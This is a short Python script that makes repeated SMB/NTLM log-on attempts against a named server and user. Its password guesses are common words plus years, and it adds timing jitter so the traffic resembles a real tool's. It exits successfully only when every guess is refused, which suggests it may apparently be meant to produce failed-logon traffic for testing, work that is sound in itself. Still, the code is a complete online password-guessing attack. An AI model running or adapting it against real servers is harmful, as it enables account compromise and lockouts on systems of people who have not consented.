#!/usr/bin/env python3
"""Guesses an SMB password: a fixed number of log-ons at a fixed pace, each on its own TCP connection.

Usage: smb_guess.py SERVER USER ATTEMPTS GAP_S. Prints how many were refused; any other outcome is an error.
The pace has a small seeded jitter, so the gaps look like a tool's and not like a metronome.
"""
import random
import sys
import time
import uuid

from smbprotocol.connection import Connection
from smbprotocol.exceptions import LogonFailure
from smbprotocol.session import Session

WORDS = ["summer", "winter", "secret", "welcome", "office", "monday", "letmein", "dragon", "qwerty"]


def candidate(index: int) -> str:
    return f"{WORDS[index % len(WORDS)].capitalize()}{2000 + index // len(WORDS)}!"


def refused(server: str, user: str, password: str) -> bool:
    connection = Connection(uuid.uuid4(), server, 445)
    connection.connect()
    try:
        Session(connection, user, password, require_encryption=False, auth_protocol="ntlm").connect()
    except LogonFailure:
        return True
    finally:
        connection.disconnect(close=True)
    return False


def main() -> None:
    server, user, attempts, gap_s = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    jitter = random.Random(33)
    begin = time.monotonic()
    count = 0
    for index in range(attempts):
        due = begin + index * gap_s + (jitter.uniform(0, 0.02) if 0 < index < attempts - 1 else 0)
        time.sleep(max(0.0, due - time.monotonic()))
        count += refused(server, user, candidate(index))
    print(f"{count} of {attempts} refused in {time.monotonic() - begin:.1f} s")
    sys.exit(0 if count == attempts else 1)


main()
